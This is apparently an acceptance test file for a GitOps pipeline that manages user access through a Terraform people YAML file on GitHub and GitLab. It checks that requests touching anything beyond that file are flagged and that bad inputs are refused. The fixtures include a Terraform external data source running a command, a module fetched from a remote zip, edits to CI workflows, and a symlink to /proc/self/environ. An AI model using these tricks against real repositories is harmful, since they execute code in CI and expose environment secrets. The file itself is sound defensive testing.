// The same with people in YAML and plain Terraform: of a request there is the people's file alone.
import { execFile, execFileSync } from "node:child_process";
import { cp, mkdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { promisify } from "node:util";
import { type GitlabScene, openGitlabScene } from "../accept/gitlab-scene";
import { expectEnd, type GitopsScene, openGitopsScene } from "../accept/gitops-scene";

const HCL = join(__dirname, "..", "..", "examples", "gitops-hcl");
const { TERRAFORM_BINARY_NAME = "terraform" } = process.env;
const PEOPLE = "stacks/people/people.yaml";

/** The team's files in the place of a CDKTF project. */
async function project({ clone, states }: { clone: string; states: string }): Promise<void> {
  const { environment } = JSON.parse(await readFile(join(clone, "access.allowed.json"), "utf8"));
  for (const name of ["main.ts", "team-stack.ts", "cdktf.json", ".terraform.lock.hcl"])
    await rm(join(clone, name));
  await cp(HCL, clone, { recursive: true, filter: (source) => !source.endsWith(".accessignore") });
  const allowed = JSON.parse(await readFile(join(clone, "access.allowed.json"), "utf8"));
  await writeFile(join(clone, "access.allowed.json"), JSON.stringify({ ...allowed, environment }));
  const versions = join(clone, "stacks/people/versions.tf");
  const text = await readFile(versions, "utf8");
  await writeFile(versions, text.replaceAll("https://states.example.com/", states));
  // As the README says; `npm run synth` is that of package.json.
  const modules = join(dirname(clone), "runner/installed/node_modules");
  await symlink(modules, join(clone, "node_modules"));
  await promisify(execFile)("bash", ["scripts/lock.sh"], {
    cwd: clone,
    env: { PATH: process.env.PATH, TERRAFORM_BINARY_NAME },
  });
  await rm(join(clone, "node_modules"));
  const { scripts } = JSON.parse(await readFile(join(clone, "package.json"), "utf8"));
  const synth = `import { execSync } from "node:child_process";\nexecSync(${JSON.stringify(scripts.synth)});\n`;
  await writeFile(join(clone, "synth.mjs"), synth);
}

const person = (name: string, more = "") =>
  `- email: ${name}@example.com\n  first_name: ${name}\n  last_name: Example\n  role: viewer\n${more}`;
const BASE = ["ada", "olga", "victor"].map((name) => `Invite \`${name}@example.com\``);

/** What each would let happen if it were used: nobody but those of the base is in the preview, which says what was changed. */
const CHANGED = {
  "stacks/people/main.tf": (text: string) =>
    `${text}\ndata "external" "owned" {\n  program = ["touch", "/tmp/owned"]\n}\n`,
  "stacks/people/evil.tf": 'module "owned" {\n  source = "https://example.com/owned.zip"\n}\n',
  ".github/workflows/preview.yml": "",
  ".terraform.lock.hcl": "",
  "ci/apply.yml": "",
};
const REFUSED: readonly (readonly [string, string, string])[] = [
  ["no YAML", "- {", "yamldecode"],
  ["no list", "/proc/self/environ", "for"],
  ["an address twice", person("vera") + person("VERA"), "Duplicate object key"],
  [
    "a field that nobody reads",
    person("vera", "  roel: admin\n"),
    "has a field in people.yaml that nobody reads",
  ],
  ["no role", person("vera").replace("  role: viewer\n", ""), "does not have an attribute"],
  [
    "a megabyte",
    `${person("vera")}#${"x".repeat(1_000_000)}`,
    "The people's file is larger than a megabyte.",
  ],
];

interface Forge {
  readonly scene: Pick<GitopsScene, "push" | "merge" | "comment" | "roles" | "control" | "forge">;
  /** Answers what the plan of the preview printed. */
  request(branch: string, head: string): Promise<string>;
  /** Answers what the gate printed or showed. */
  apply(commit: string): Promise<string>;
}

async function onGithub(): Promise<Forge> {
  const scene = await openGitopsScene(project);
  return {
    scene,
    request: async (branch, head) => (await scene.request(branch, head)).preview.jobs.plan?.log ?? "",
    async apply(commit) {
      const { jobs } = await scene.apply(commit);
      expectEnd(jobs.gate, "success");
      expectEnd(jobs.apply, "success");
      return jobs.gate?.summary ?? "";
    },
  };
}

async function onGitlab(): Promise<Forge> {
  const scene: GitlabScene = await openGitlabScene({ project });
  return {
    scene,
    request: async (_, head) => (await scene.request(head)).preview.jobs.plan?.log ?? "",
    async apply(commit) {
      const { jobs } = await scene.run(commit);
      if (jobs["access apply"]?.status !== "success")
        throw new Error(`${jobs["access gate"]?.log}${jobs["access apply"]?.log}`);
      return jobs["access gate"]?.log ?? "";
    },
  };
}

test.each([
  ["GitHub", onGithub],
  ["GitLab", onGitlab],
])("on %s a request hands over its people, and nothing else", async (forge, open) => {
  const { scene, request, apply } = await open();
  const vera = (text: string) => text + person("vera");
  const honest = await scene.push("honest", { [PEOPLE]: vera });
  await request("honest", honest);
  expect(scene.comment()).toContain("Invite `vera@example.com`");
  expect(scene.comment()).not.toContain("which decides");

  await request("evil", await scene.push("evil", CHANGED));
  expect(scene.comment()).toContain(
    "This request changes `.github/workflows/preview.yml` `.terraform.lock.hcl` `ci/apply.yml` " +
      "`stacks/people/evil.tf` `stacks/people/main.tf`, which decides",
  );
  for (const line of BASE) expect(scene.comment()).toContain(line);
  for (const [index, [name, text, why]] of REFUSED.entries()) {
    const log = await request("refused", await scene.push(`refused-${index}`, { [PEOPLE]: text }));
    expect([name, log]).toEqual([name, expect.stringContaining(why)]);
    expect(scene.comment()).toContain("There is no preview of");
  }
  expect(scene.forge.world().requests[1]?.comments).toHaveLength(1);
  expect(scene.control.invitations()).toEqual([]);

  expect(await apply(await scene.merge("honest"))).toContain("Invite `vera@example.com`");
  expect(scene.roles()).toMatchObject({ "ada@example.com": "admin", "vera@example.com": "viewer" });

  // Where nobody is asked a viewer passes: the settings of this provider are settled. On GitLab a file says that nobody is.
  if (forge === "GitHub") {
    await scene.forge.change(() => ({ asks: false }));
    await scene.push("later", { [PEOPLE]: (text: string) => text + person("wilma") });
    await apply(await scene.merge("later"));
    expect(scene.roles()).toMatchObject({ "wilma@example.com": "viewer" });
  }

  // What is changed beside the people is told, and planned after the merge.
  const loud = (text: string) => text.replace("= each.value.last_name", "= upper(each.value.last_name)");
  await request("loud", await scene.push("loud", { "stacks/people/main.tf": loud }));
  expect(scene.comment()).toContain("This request changes `stacks/people/main.tf`, which decides");
  expect(scene.comment()).not.toContain("EXAMPLE");
  expect(await apply(await scene.merge("loud"))).toContain("EXAMPLE");
});

test("what lies there is as terraform fmt writes it", () => {
  expect(
    execFileSync(TERRAFORM_BINARY_NAME, ["fmt", "-check", "-recursive", HCL], { encoding: "utf8" }),
  ).toBe("");
});

test("a stack with a symbolic link is not packed", async () => {
  const folder = join(process.env.AUTOMOX_TEST_ARTEFACTS ?? "", "linked");
  await mkdir(join(folder, "node_modules/terraform-provider-automox/dist"), { recursive: true });
  await cp(HCL, folder, { recursive: true });
  const scripts = join(HCL, "../gitops/scripts");
  await writeFile(
    join(folder, "node_modules/terraform-provider-automox/package.json"),
    '{"version":"0.1.0"}',
  );
  await writeFile(join(folder, "node_modules/terraform-provider-automox/dist/automox-access.cjs"), "");
  await writeFile(join(folder, ".terraform.lock.hcl"), "");
  await cp(scripts, join(folder, "scripts"), { recursive: true });
  await rm(join(folder, PEOPLE));
  await symlink("/proc/self/environ", join(folder, PEOPLE));
  const pack = () => promisify(execFile)("bash", ["scripts/pack.sh", "tools.tar"], { cwd: folder });
  await expect(pack()).rejects.toThrow("stacks has something that is no file.");
});
